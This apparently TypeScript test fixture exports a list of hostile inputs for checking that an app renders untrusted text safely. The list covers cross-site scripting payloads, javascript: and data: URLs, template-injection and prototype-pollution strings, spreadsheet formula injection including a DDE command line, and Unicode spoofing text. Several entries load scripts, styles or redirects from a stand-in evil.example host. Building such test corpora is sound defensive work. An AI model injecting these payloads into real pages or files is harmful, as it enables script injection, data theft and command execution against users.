const TRAP = 'trap()';

const HTML = [
  `<script>${TRAP}</script>`,
  `<SCRIPT SRC=https://evil.example/a.js></SCRIPT>`,
  `</script><script>${TRAP}</script>`,
  `</title><script>${TRAP}</script>`,
  `</textarea><script>${TRAP}</script>`,
  `--><script>${TRAP}</script>`,
  `<![CDATA[<script>${TRAP}</script>]]>`,
  `<img src=x onerror=${TRAP}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `"><img src=x onerror=${TRAP}>`,
  `'><img src=x onerror=${TRAP}>`,
  `<svg onload=${TRAP}>`,
  `<svg><script>${TRAP}</script></svg>`,
  `<svg><animate onbegin=${TRAP} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${TRAP}'/>#x"/></svg>`,
  `<math><mtext><style><img src onerror=${TRAP}></style></mtext></math>`,
  `<body onload=${TRAP}>`,
  `<iframe srcdoc="<script>parent.${TRAP}</script>"></iframe>`,
  `<iframe src="javascript:parent.${TRAP}"></iframe>`,
  `<object data="javascript:${TRAP}"></object>`,
  `<embed src="https://evil.example/a.swf">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import 'https://evil.example/a.css';</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input autofocus onfocus=${TRAP}></form>`,
  `<details open ontoggle=${TRAP}>`,
  `<video><source onerror=${TRAP}></video>`,
  `<audio src=x onerror=${TRAP}>`,
  `<marquee onstart=${TRAP}>`,
  `<a href="javascript:${TRAP}">click</a>`,
  `<button popovertarget=x onbeforetoggle=${TRAP}>`,
  `<template><script>${TRAP}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${TRAP}>">`,
  `&lt;script&gt;${TRAP}&lt;/script&gt;`,
  `&#60;script&#62;${TRAP}&#60;/script&#62;`,
  `\\u003cscript\\u003e${TRAP}\\u003c/script\\u003e`,
];

const ADDRESSES = [
  `javascript:${TRAP}`,
  `JaVaScRiPt:${TRAP}//`,
  `data:text/html,<script>${TRAP}</script>`,
  `vbscript:${TRAP}`,
  `//evil.example/a`,
  `https://evil.example/?q=<script>${TRAP}</script>`,
];

const TEMPLATES = [
  `\${${TRAP}}`,
  `{{constructor.constructor('${TRAP}')()}}`,
  `{{ticket_id}} {% if 1 %}x{% endif %}`,
  `<%= ${TRAP} %>`,
  `#{${TRAP}}`,
  `{"__proto__":{"polluted":true}}`,
  `dangerouslySetInnerHTML={{__html:'${TRAP}'}}`,
];

const SIGNS = [
  '=HYPERLINK("https://evil.example","x")',
  `=cmd|'/c calc'!A1`,
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\u202Egnp.exe\u202C',
  '\u2066\u2067nested\u2069\u2069',
  'zero\u200Bwidth\u200Djoined',
  'Z\u0351\u036B\u0343a\u0340l\u0341g\u0342o',
  `long${'w'.repeat(150)}`,
];

/** What must never run, ask another host, or be shown as anything but text. It calls `trap()` where it runs. */
export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...ADDRESSES, ...TEMPLATES, ...SIGNS];
